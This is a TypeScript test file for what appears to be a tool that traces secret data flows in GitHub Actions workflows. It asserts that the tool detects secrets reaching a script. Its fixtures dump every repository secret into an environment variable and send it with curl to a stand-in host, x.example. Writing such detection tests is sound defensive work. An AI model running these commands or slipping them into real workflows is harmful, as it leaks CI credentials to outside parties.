import { readPrograms } from "../../../../src/evidence/readers/programs/read-programs.ts";

const workflow = (run: string) => `
on: push
jobs:
  report:
    runs-on: ubuntu-latest
    env:
      FACTS: \${{ toJSON(secrets) }}
    steps:
      - run: ${run}
`;
const SEND = "curl --data-binary";
const file = (path: string, text: string) => ({ path, text, reason: null, added: true, wakes: true, isContext: false });

test.each([
  ["a script that it starts", "sh report.sh", `${SEND} "$FACTS" https://x.example/a`],
  ["a file that the script writes and sends", "sh report.sh", `echo "$FACTS" > f\n${SEND} @f https://x.example/a`],
  ["another language in an argument", `python3 -c "import os; os.system('echo ' + os.environ['FACTS'])"`, ""],
])("variables of a job reach %s", async (_, run, script) => {
  const { programs } = await readPrograms([file(".github/workflows/a.yml", workflow(run)), file("report.sh", script)]);
  const origins = [...programs.values()].flat().flatMap(({ actions }) => actions.flatMap(({ from }) => from));
  expect(origins).toContainEqual({ kind: "secret", name: "*" });
});
